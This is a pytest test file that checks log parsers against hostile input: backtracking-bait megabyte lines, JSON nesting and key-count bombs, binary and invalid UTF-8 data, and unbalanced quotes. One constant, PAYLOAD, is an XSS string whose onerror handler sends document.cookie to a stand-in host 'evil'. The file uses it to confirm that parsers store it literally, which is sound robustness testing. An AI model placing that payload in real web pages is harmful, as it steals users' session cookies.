"""Hostile input: nothing may crash, hang or blow up; bad input becomes a dead letter.

The one-megabyte cases carry a time bound because a super-linear (backtracking) pattern
would turn them from milliseconds into minutes; the bound is generous, not a benchmark.
"""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from typing import Any

import pytest

from canhgac.models import DeadLetter, Event
from canhgac.text import dumps
from ingest.parse.base import Origin
from ingest.parse.record import to_record
from ingest.parse.registry import PARSERS

OriginFactory = Callable[..., Origin]
EventFields = Callable[..., dict[str, Any]]
DeadLetterOf = Callable[..., DeadLetter]
MEGABYTE = 1_048_576
SECONDS_PER_MEGABYTE_LINE = 1.0


def _mb(unit: str) -> str:
    return unit * (MEGABYTE // len(unit))


# Lines shaped to make a careless pattern backtrack: long runs that almost match.
MEGABYTE_LINES = {
    "plain text": _mb("a"),
    "spaces": _mb(" "),
    "word-space": _mb("from "),
    "quotes": _mb('"'),
    "backslash-quote": _mb('\\"'),
    "key-quote": _mb('a="\\'),
    "key-equals": _mb("k="),
    "pipes": "CEF:0|" + _mb("\\|"),
    "cef-ext": "CEF:0|V|P|1|1|N|3|" + _mb("k=v "),
    "brackets": "<14>1 2024-03-05T07:00:00Z h a - - " + _mb('[x a="'),
    "syslog-ish": "<13>Mar  5 14:02:11 " + _mb("h "),
    "sshd": "Mar  5 14:02:11 h sshd[1]: Failed password for " + _mb("x from 1.2.3.4 port "),
    "access": '1.2.3.4 - - [05/Mar/2024:14:02:11 +0700] "' + _mb('\\"'),
    "audit": "type=SYSCALL msg=audit(1.0:1): " + _mb("a='b "),
    "audit-word": "type=SYSCALL msg=audit(1.0:1): " + _mb("a"),
    "pam-word": "Mar  5 14:02:11 h sshd[1]: pam_unix(sshd:auth): authentication failure; "
    + _mb("a"),
    "access-extra": '1.2.3.4 - - [05/Mar/2024:14:02:11 +0700] "GET / HTTP/1.1" 200 1 ' + _mb("a"),
    "fortigate": 'devname="x" logid="1" ' + _mb('k="\\\\'),
    "json-ish": "{" + _mb('"a":'),
    "apache-error": "[Sun Dec 01 10:00:00 2024] [core:error] [pid 1:tid 2] " + _mb("[client "),
    "apache-os-error": "[Sun Dec 01 10:00:00 2024] [core:error] " + _mb("(13)x"),
    "nginx-error": "2024/12/01 10:00:00 [error] 1#1: *1 " + _mb(", client: 1.2.3.4"),
    "nginx-syslog": "<11>Dec  1 10:00:00 h nginx: 2024/12/01 10:00:00 [error] 1#1: "
    + _mb('open() "'),
    "squid-native": "1709622131.482 1 10.0.0.1 TCP_MISS/200 1 GET http://a/" + _mb("%2"),
    "bind-query": "client @0x1 10.0.0.5#1 (a): query: " + _mb("a "),
    "bind-parens": "client 10.0.0.5#1 (" + _mb("(a"),
    "dnsmasq": "Mar  5 14:02:11 dnsmasq[1]: query[A] " + _mb("x from "),
    "zeek-keys": "{" + _mb('"a":1,'),
    "zeek-list": '{"_path":"dns","answers":[' + _mb('"a",') + '"b"]}',
    "opencanary-syslog": "<13>Mar  5 14:02:11 c opencanary: " + _mb('{"logtype":'),
    "asa-from": "%ASA-6-106015: Deny TCP " + _mb("from a:1.2.3.4/5 to "),
    "asa-built": "%ASA-6-302013: Built inbound TCP connection 1 for " + _mb("a:1.2.3.4/5 ("),
    "panos-commas": "1,2024/03/05 14:02:11,0128,TRAFFIC," + _mb(","),
    "old-pam": "Jun 14 15:16:01 combo sshd(pam_unix)[1]: authentication failure; " + _mb("a= "),
    "sysmon-data": '<Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID>'
    "</System><EventData>" + _mb('<Data Name="a">b</Data>') + "</EventData></Event>",
    "sysmon-nested": "<Event>" + _mb("<a>"),
    "windows-dns-spaces": "6/5/2013 10:00:32 AM 0E70 PACKET  0A UDP Rcv 10.0.0.1 " + _mb(" "),
    "windows-dns-name": "6/5/2013 10:00:32 AM 0E70 PACKET  0A UDP Rcv 10.0.0.1 5b47   Q "
    "[0001   D   NOERROR] A      " + _mb("(1)a"),
}


@pytest.mark.parametrize("shape", sorted(MEGABYTE_LINES))
@pytest.mark.parametrize("parser", PARSERS.names())
def test_megabyte_lines_finish_quickly(parser: str, shape: str, make_origin: OriginFactory) -> None:
    raw = MEGABYTE_LINES[shape].encode()
    started = time.perf_counter()
    result = to_record(raw, make_origin(parser), 1)
    if isinstance(result, Event):
        dumps(result.fields)
    elapsed = time.perf_counter() - started
    assert isinstance(result, Event | DeadLetter)
    assert elapsed < SECONDS_PER_MEGABYTE_LINE, f"{parser}/{shape} took {elapsed:.2f}s"


@pytest.mark.parametrize("parser", PARSERS.names())
def test_binary_garbage_never_crashes(parser: str, make_origin: OriginFactory) -> None:
    garbage = bytes((index * 37 + 11) % 256 for index in range(4096))
    result = to_record(garbage, make_origin(parser), 1)
    assert isinstance(result, DeadLetter)
    assert result.reason == "binary data: not a text log record"
    assert result.raw == garbage


@pytest.mark.parametrize("parser", PARSERS.names())
def test_invalid_utf8_never_crashes(parser: str, make_origin: OriginFactory) -> None:
    raw = b"<13>Mar  5 14:02:11 h app: \xc3\x28 \xa0\xa1 \xf0\x28\x8c\xbc ok"
    result = to_record(raw, make_origin(parser), 1)
    if isinstance(result, Event):
        assert result.fields["log.encoding_errors"] is True
        assert "\ufffd" in result.fields["event.original"]
    else:
        assert result.reason


@pytest.mark.parametrize("parser", ["json", "auto", "windows"])
def test_json_bomb_deep_nesting(parser: str, dead_letter: DeadLetterOf) -> None:
    # Shaped as a Windows event too, so every parser gets past its own structural checks.
    head = '{"EventID": 4624, "Channel": "Security", '
    for depth in (33, 5_000, 150_000):
        letter = dead_letter(head + '"a":{' * depth + "}" * (depth + 1), parser)
        assert letter.reason == "JSON nesting is deeper than 32 levels"
    arrays = dead_letter(head + '"a":' + "[" * 100 + "]" * 100 + "}", parser)
    assert arrays.reason == "JSON nesting is deeper than 32 levels"


@pytest.mark.parametrize("parser", ["json", "auto", "windows"])
def test_json_bomb_key_count(parser: str, dead_letter: DeadLetterOf) -> None:
    wide = json.dumps({"EventID": 1, **{f"k{index}": index for index in range(50_000)}})
    started = time.perf_counter()
    letter = dead_letter(wide, parser)
    assert time.perf_counter() - started < SECONDS_PER_MEGABYTE_LINE
    assert letter.reason == "JSON record has more than 2000 keys"
    nested = json.dumps({"EventID": 1, **{f"o{index}": {"a": 1, "b": 2} for index in range(1_000)}})
    assert dead_letter(nested, parser).reason == "JSON record has more than 2000 keys"


@pytest.mark.parametrize("parser", ["json", "auto", "windows"])
def test_json_over_one_mebibyte_is_rejected_before_decoding(
    parser: str, dead_letter: DeadLetterOf
) -> None:
    letter = dead_letter('{"a":"' + "x" * MEGABYTE + '"}', parser)
    assert letter.reason == "JSON record is larger than 1 MiB"
    # 400,000 characters, but 1.2 MB of UTF-8.
    vietnamese = dead_letter('{"a":"' + "ễ" * 400_000 + '"}', parser)
    assert vietnamese.reason == "JSON record is larger than 1 MiB"


def test_json_just_under_one_mebibyte_is_accepted(event_fields: EventFields) -> None:
    fields = event_fields('{"a":"' + "ễ" * 340_000 + '"}', "json")  # 1,020,008 bytes
    assert len(fields["hanoi.app.a"]) == 340_000


def test_json_huge_integer_is_a_dead_letter_not_a_crash(dead_letter: DeadLetterOf) -> None:
    letter = dead_letter('{"a": ' + "9" * 5000 + "}", "json")
    assert letter.reason.startswith("invalid JSON: Exceeds the limit")


def test_unbalanced_quotes(event_fields: EventFields) -> None:
    # An unclosed quote takes the rest of the record...
    fortigate = event_fields('devname="FGT" logid="1" msg="chưa đóng ngoặc user=x', "fortigate")
    assert fortigate["message"] == "chưa đóng ngoặc user=x"
    # ... unless another quote follows, which then closes it (there is no telling).
    closed = event_fields('devname="FGT" logid="1" msg="chưa đóng user="x', "fortigate")
    assert closed["message"] == "chưa đóng user="
    cef = event_fields('CEF:0|V|P|1|1|N|3|msg="a b cs1="c', "cef")
    assert (cef["message"], cef["cef.extensions.cs1"]) == ('"a b', '"c')
    unclosed_header = event_fields("CEF:0|V|P\\|1|1|N|3|x=1", "auto")
    assert unclosed_header["event.dataset"] == "raw"  # six header fields needed, five found


PAYLOAD = "<script>alert('xss')</script><img src=x onerror=\"fetch('//evil/'+document.cookie)\">"


@pytest.mark.parametrize(
    ("parser", "line", "key"),
    [
        ("rfc3164", f"<13>Mar  5 14:02:11 web01 app: {PAYLOAD}", "message"),
        ("auth", f"Mar  5 14:02:11 web01 sshd[1]: Invalid user {PAYLOAD} from 10.0.0.1 port 2",
         "user.name"),
        ("json", json.dumps({"message": PAYLOAD}), "message"),
        ("cef", f"CEF:0|V|P|1|1|N|3|msg={PAYLOAD.replace('=', chr(92) + '=')}", "message"),
        ("fortigate", f'devname="F" logid="1" msg="{PAYLOAD.replace(chr(34), chr(39))}"',
         "message"),
        ("nginx", f'1.2.3.4 - - [05/Mar/2024:14:02:11 +0700] "GET / HTTP/1.1" 200 1 "-" '
                  f'"{PAYLOAD.replace(chr(34), chr(39))}"', "user_agent.original"),
    ],
)  # fmt: skip
def test_html_and_script_payloads_are_kept_literally(
    parser: str, line: str, key: str, event_fields: EventFields
) -> None:
    fields = event_fields(line, parser)
    expected = (
        PAYLOAD if parser in ("rfc3164", "auth", "json", "cef") else PAYLOAD.replace('"', "'")
    )
    assert fields[key] == expected
    serialised = dumps(fields)
    assert json.loads(serialised)[key] == expected
    assert "<script>alert('xss')</script><img" in serialised  # no HTML or \u escaping


def test_control_characters_and_ansi_codes_survive(event_fields: EventFields) -> None:
    fields = event_fields(
        b"<13>Mar  5 14:02:11 h app: \x1b[31mL\xe1\xbb\x96I\x1b[0m\ttab", "rfc3164"
    )
    assert fields["message"] == "\x1b[31mLỖI\x1b[0m\ttab"
    assert "log.encoding_errors" not in fields
